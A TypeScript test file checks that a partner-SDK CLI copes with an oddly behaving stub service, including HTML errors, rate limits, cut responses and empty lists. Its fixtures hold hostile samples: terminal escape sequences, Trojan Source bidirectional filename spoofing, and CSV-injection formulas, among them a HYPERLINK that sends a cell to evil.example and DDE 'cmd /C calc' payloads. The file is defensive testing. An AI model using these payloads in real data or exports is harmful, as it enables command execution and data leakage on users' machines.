/**
 * The everyday commands against a service that answers oddly, as an operator meets it: an HTML
 * page for a 500, a long `Retry-After`, an answer cut mid-body, text carrying a terminal's control
 * characters, an empty list, cells CSV must quote. Data stays on stdout, errors on stderr, each
 * with the exit code the CLI guide gives.
 */

import type { ServerResponse } from 'node:http';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { json, type StubServer, startStub } from '../../../test/helpers/stub-server';
import { cli, jsonLines } from './run-cli';

/** A product name and a service message carrying what a terminal would act on. */
const EVIL_NAME = 'Evil\u001b]0;pwned\u0007\u001b[31mRED\r\nsecond line\u009b2J';
const EVIL_MESSAGE = 'Bad \u001b[2Jinput\u001b]0;pwned\u0007\rspoofed';
const TRICKY_NAME = 'a, "quoted"\nname';
/**
 * "Trojan Source": a name whose bidirectional overrides make a terminal show `invoice.pdf` for
 * `invoice[RLO]fdp.exe`, and invisible characters hiding what is there.
 */
const BIDI_NAME = 'invoice\u202efdp.exe \u202a\u202b\u202c\u202d \u2066\u2067\u2068\u2069';
const INVISIBLE_NAME = 'pay\u200bpal\u200c\u200d\u2060\ufeff \u200e\u200f\u061c';
const BIDI_MESSAGE = 'Refund of \u202e01 BRL\u202c refused\u200b.';
const BIDI_ESCAPED =
  'invoice\\u202efdp.exe \\u202a\\u202b\\u202c\\u202d \\u2066\\u2067\\u2068\\u2069';
const INVISIBLE_ESCAPED = 'pay\\u200bpal\\u200c\\u200d\\u2060\\ufeff \\u200e\\u200f\\u061c';
/** Every character that reorders or hides text on a terminal. */
const BIDI_OR_INVISIBLE =
  /[\u202a-\u202e\u2066-\u2069\u200e\u200f\u061c\u200b-\u200d\u2060\ufeff]/u;

/** Cells a spreadsheet would run as formulas (OWASP "CSV Injection"), beside numbers that are data. */
const FORMULAS = {
  hash: 'prd_f',
  name: '=HYPERLINK("http://evil.example/?"&A1,"Open")',
  type: "+cmd|' /C calc'!A0",
  status: '-2+3',
  support_email: "@SUM(1+1)*cmd|' /C calc'!A0",
  tab: '\t=1+1',
  cr: '\r=1+1',
  spaced: ' =1+1',
  tab_then: '\t@SUM(1+1)',
  spaces_at: '  @SUM(1+1)',
  newline_plus: '\n+1+1',
  nbsp_minus: '\u00a0-2+3',
  refund_deadline: -7,
  text_number: '-150',
  spaced_number: ' -150',
};

const page = (data: unknown[]) => ({
  data,
  current_page: 1,
  last_page: 1,
  per_page: 10,
  total: data.length,
});
const product = (name: string) => ({ hash: 'prd_1', name, type: 'course', status: 'approved' });

/** Each base URL's first path segment picks how the stub answers. */
const ANSWERS: Record<string, (res: ServerResponse) => void> = {
  html500: (res) => {
    res.writeHead(500, { 'content-type': 'text/html' });
    res.end('<html><body><h1>500 Internal Server Error</h1></body></html>');
  },
  wait: (res) => json(res, 429, { message: 'Too Many Attempts.' }, { 'retry-after': '3600' }),
  maintenance: (res) => json(res, 503, { message: 'Be right back.' }, { 'retry-after': '900' }),
  cut: (res) => {
    res.writeHead(200, { 'content-type': 'application/json', 'content-length': '5000' });
    res.write('{"data":[{"hash":"prd_1","name":"a');
    setTimeout(() => res.socket?.destroy(), 20);
  },
  evil: (res) => json(res, 200, page([product(EVIL_NAME)])),
  evilone: (res) => json(res, 200, { data: product(EVIL_NAME) }),
  evilerror: (res) => json(res, 422, { message: EVIL_MESSAGE, errors: { name: ['too long'] } }),
  empty: (res) => json(res, 200, page([])),
  // Never answers: the request waits until the client gives up (the stub closes it at the end).
  silent: () => {},
  tricky: (res) => json(res, 200, page([product(TRICKY_NAME), product('plain')])),
  bidi: (res) => json(res, 200, page([product(BIDI_NAME), product(INVISIBLE_NAME)])),
  bidione: (res) => json(res, 200, { data: product(BIDI_NAME) }),
  bidierror: (res) => json(res, 422, { message: BIDI_MESSAGE, errors: { name: [BIDI_MESSAGE] } }),
  badlogin: (res) =>
    json(res, 422, {
      message: 'The given data was invalid.',
      errors: { client_id: ['The client id field is required.'] },
    }),
  formulas: (res) => json(res, 200, page([FORMULAS])),
  formulaone: (res) => json(res, 200, { data: FORMULAS }),
};

let stub: StubServer;
beforeAll(async () => {
  stub = await startStub((request, res) => {
    const answer = ANSWERS[request.path.split('/')[1] ?? ''];
    if (answer) return answer(res);
    json(res, 404, { message: 'not found' });
  });
});
afterAll(() => stub?.close());

/** Runs the CLI against the stub's `mode`, logged in with a client token (no login call). */
const run = (mode: string, args: string[]) =>
  cli(args, {
    env: {
      PARTNER_API_BASE_URL: `${stub.origin}/${mode}`,
      PARTNER_API_CLIENT_TOKEN: 'ct_odd_service',
      PARTNER_API_CLIENT_ID: undefined,
      PARTNER_API_CLIENT_SECRET: undefined,
      PARTNER_API_SELLER_TOKEN: undefined,
      PARTNER_SDK_PROFILE: undefined,
      XDG_CONFIG_HOME: '/nonexistent-partner-cli-config',
    },
  });

/** Control characters (C0 but newline, DEL, C1): what makes a terminal act instead of print. */
const CONTROL = /(?!\n)\p{Cc}/u;

describe('partner-sdk against an odd service', { timeout: 60_000 }, () => {
  it('a 500 answered with an HTML page: one line on stderr naming the status, nothing on stdout, exit 1', async () => {
    const text = await run('html500', ['--format', 'table', 'products', 'list']);
    expect(text.code).toBe(1);
    expect(text.stdout).toBe('');
    expect(text.stderr.trim().split('\n')).toHaveLength(1);
    expect(text.stderr).toMatch(
      /500 Internal Server Error: the service answered with an HTML page/,
    );
    const piped = await run('html500', ['products', 'list']);
    expect(piped.code).toBe(1);
    expect(piped.stdout).toBe('');
    expect(jsonLines(piped.stderr)[0]?.error).toMatchObject({
      name: 'InternalServerError',
      status: 500,
    });
  });

  it('a 429 asking for a wait longer than the client waits says how long, in text and JSON', async () => {
    const text = await run('wait', ['--format', 'table', 'products', 'list']);
    expect(text.code).toBe(1);
    expect(text.stderr).toMatch(/429 Too Many Requests.*retry after 3600 s/);
    const piped = await run('wait', ['products', 'list']);
    expect(jsonLines(piped.stderr)[0]?.error).toMatchObject({
      name: 'RateLimitError',
      status: 429,
      retryAfterMs: 3_600_000,
    });
  });

  it('a 503 asking for a wait longer than the client waits says how long, in text and JSON', async () => {
    const text = await run('maintenance', ['--format', 'table', 'products', 'list']);
    expect(text.code).toBe(1);
    expect(text.stderr).toMatch(/503 Service Unavailable: Be right back\. \(retry after 900 s\)/);
    const piped = await run('maintenance', ['products', 'list']);
    expect(jsonLines(piped.stderr)[0]?.error).toMatchObject({
      name: 'InternalServerError',
      status: 503,
      retryAfterMs: 900_000,
    });
  });

  it('an answer cut mid-body is a connection lost after it was made, not one that could not be made', async () => {
    const result = await run('cut', ['--format', 'table', 'products', 'list']);
    expect(result.code).toBe(1);
    expect(result.stdout).toBe('');
    expect(result.stderr).not.toMatch(/cannot connect/);
    expect(result.stderr).toMatch(/connection to http:\/\/127\.0\.0\.1:\d+\/cut was lost/);
  });

  it('--request-timeout bounds a call to a service that never answers, retries included; a bad value is exit 2, nothing sent', async () => {
    const started = performance.now();
    const result = await run('silent', ['--request-timeout', '0.5', 'products', 'list']);
    expect(performance.now() - started).toBeLessThan(15_000);
    expect(result.code).toBe(1);
    expect(result.stdout).toBe('');
    expect(jsonLines(result.stderr)[0]?.error).toMatchObject({
      name: 'APIConnectionTimeoutError',
    });
    const sent = stub.requests.length;
    for (const value of ['0', '-1', 'soon', '9999999']) {
      const refused = await run('silent', ['--request-timeout', value, 'products', 'list']);
      expect(refused.code, value).toBe(2);
      expect(jsonLines(refused.stderr)[0]?.error, value).toMatchObject({
        name: 'UsageError',
        message: expect.stringMatching(/--request-timeout must be a number of seconds/),
      });
    }
    expect(stub.requests.length).toBe(sent);
  });

  it("a service's text never reaches the terminal as control characters: each row one line, the characters shown escaped", async () => {
    const list = await run('evil', ['--format', 'table', 'products', 'list']);
    expect(list.code).toBe(0);
    expect(list.stdout).not.toMatch(CONTROL);
    const rows = list.stdout.trimEnd().split('\n');
    expect(rows).toHaveLength(2);
    expect(rows[1]).toContain('Evil\\u001b]0;pwned\\u0007\\u001b[31mRED\\r\\nsecond line\\u009b2J');
    const one = await run('evilone', ['--format', 'table', 'products', 'get', 'prd_1']);
    expect(one.code).toBe(0);
    expect(one.stdout).not.toMatch(CONTROL);
    expect(one.stdout.trimEnd().split('\n')).toHaveLength(4);
    const refused = await run('evilerror', ['--format', 'table', 'products', 'get', 'prd_1']);
    expect(refused.code).toBe(1);
    expect(refused.stderr).not.toMatch(CONTROL);
    // The SDK's message already blanks the service's control characters (one line, no escape
    // sequence), so the error line reads as the service's text with spaces in their place.
    expect(refused.stderr.trimEnd().split('\n')).toHaveLength(1);
    expect(refused.stderr).toMatch(/Bad +\[2Jinput +\]0;pwned +spoofed/);
    // JSON escapes them by itself, and keeps the text as the service sent it.
    const piped = await run('evil', ['products', 'list']);
    expect(jsonLines(piped.stdout)[0]?.name).toBe(EVIL_NAME);
  });

  it('a service\'s bidirectional and invisible characters are shown escaped to people ("Trojan Source"), kept exact in JSON and CSV', async () => {
    const list = await run('bidi', ['--format', 'table', 'products', 'list']);
    expect(list.code).toBe(0);
    expect(list.stdout).not.toMatch(BIDI_OR_INVISIBLE);
    const rows = list.stdout.trimEnd().split('\n');
    expect(rows[1]).toContain(BIDI_ESCAPED);
    expect(rows[2]).toContain(INVISIBLE_ESCAPED);
    const one = await run('bidione', ['--format', 'table', 'products', 'get', 'prd_1']);
    expect(one.code).toBe(0);
    expect(one.stdout).not.toMatch(BIDI_OR_INVISIBLE);
    expect(one.stdout).toMatch(new RegExp(`^name +${BIDI_ESCAPED.replaceAll('\\', '\\\\')}$`, 'm'));
    const refused = await run('bidierror', ['--format', 'table', 'products', 'get', 'prd_1']);
    expect(refused.code).toBe(1);
    expect(refused.stderr).not.toMatch(BIDI_OR_INVISIBLE);
    expect(refused.stderr).toContain('Refund of \\u202e01 BRL\\u202c refused\\u200b.');
    // Data for programs keeps the service's text exact.
    const piped = await run('bidi', ['products', 'list']);
    expect(jsonLines(piped.stdout).map((row) => row.name)).toEqual([BIDI_NAME, INVISIBLE_NAME]);
    const csv = await run('bidi', ['--format', 'csv', 'products', 'list']);
    expect(csv.stdout).toBe(
      `hash,name,type,status\nprd_1,${BIDI_NAME},course,approved\nprd_1,${INVISIBLE_NAME},course,approved\n`,
    );
  });

  it("a login answered 422 names the CLI's variables and the login fields sent, never the SDK's options", async () => {
    const result = await cli(['--format', 'table', 'fee-tiers', 'history'], {
      env: {
        PARTNER_API_BASE_URL: `${stub.origin}/badlogin`,
        PARTNER_API_CLIENT_TOKEN: undefined,
        PARTNER_API_CLIENT_ID: 'cli_odd',
        PARTNER_API_CLIENT_SECRET: 'sk_odd',
        PARTNER_API_SELLER_TOKEN: undefined,
        PARTNER_SDK_PROFILE: undefined,
        XDG_CONFIG_HOME: '/nonexistent-partner-cli-config',
      },
    });
    expect(result.code).toBe(1);
    expect(result.stderr.trimEnd().split('\n')).toHaveLength(1);
    expect(result.stderr).toContain(
      "login refused (client_id: The client id field is required.): check PARTNER_API_CLIENT_ID and PARTNER_API_CLIENT_SECRET (or the profile's: partner-sdk login), and that the service takes them as client_id and client_secret (the spec does not show the login's fields)",
    );
    expect(result.stderr).not.toMatch(/clientId|clientSecret|assumption/);
  });

  it('a 422 in JSON carries the service field errors beside its message', async () => {
    const piped = await run('evilerror', ['products', 'get', 'prd_1']);
    expect(piped.code).toBe(1);
    expect(jsonLines(piped.stderr)[0]?.error).toMatchObject({
      name: 'UnprocessableEntityError',
      status: 422,
      fieldErrors: { name: ['too long'] },
    });
  });

  it('an empty list: nothing on stdout in JSON and CSV, a header alone in a table, exit 0', async () => {
    for (const format of ['json', 'csv']) {
      const result = await run('empty', ['--format', format, 'products', 'list', '--all']);
      expect(result.code, format).toBe(0);
      expect(result.stdout, format).toBe('');
      expect(result.stderr, format).toBe('');
    }
    const table = await run('empty', ['--format', 'table', 'products', 'list']);
    expect(table.code).toBe(0);
    expect(table.stdout.trim()).toBe('HASH  NAME  TYPE  STATUS');
  });

  it('CSV quotes a cell holding a comma, a quote or a newline (RFC 4180), and a JSON line keeps it whole', async () => {
    const csv = await run('tricky', ['--format', 'csv', 'products', 'list']);
    expect(csv.code).toBe(0);
    expect(csv.stdout).toBe(
      'hash,name,type,status\nprd_1,"a, ""quoted""\nname",course,approved\nprd_1,plain,course,approved\n',
    );
    const piped = await run('tricky', ['products', 'list']);
    expect(jsonLines(piped.stdout).map((row) => row.name)).toEqual([TRICKY_NAME, 'plain']);
  });

  it("CSV never hands a spreadsheet a formula: a service's cell starting with = + - @ (after whitespace too), a tab or a CR is quoted behind a ', numbers kept", async () => {
    const expected =
      'hash,name,type,status,support_email,tab,cr,spaced,tab_then,spaces_at,newline_plus,nbsp_minus,refund_deadline,text_number,spaced_number\n' +
      `prd_f,"'=HYPERLINK(""http://evil.example/?""&A1,""Open"")","'+cmd|' /C calc'!A0","'-2+3","'@SUM(1+1)*cmd|' /C calc'!A0","'\t=1+1","'\r=1+1","' =1+1","'\t@SUM(1+1)","'  @SUM(1+1)","'\n+1+1","'\u00a0-2+3",-7,-150, -150\n`;
    const list = await run('formulas', ['--format', 'csv', 'products', 'list']);
    expect(list.code).toBe(0);
    expect(list.stdout).toBe(expected);
    const one = await run('formulaone', ['--format', 'csv', 'products', 'get', 'prd_f']);
    expect(one.code).toBe(0);
    expect(one.stdout).toBe(expected);
    // JSON is data for programs, not a spreadsheet: the text stays as the service sent it.
    const piped = await run('formulas', ['products', 'list']);
    expect(jsonLines(piped.stdout)[0]).toEqual(FORMULAS);
  });
});
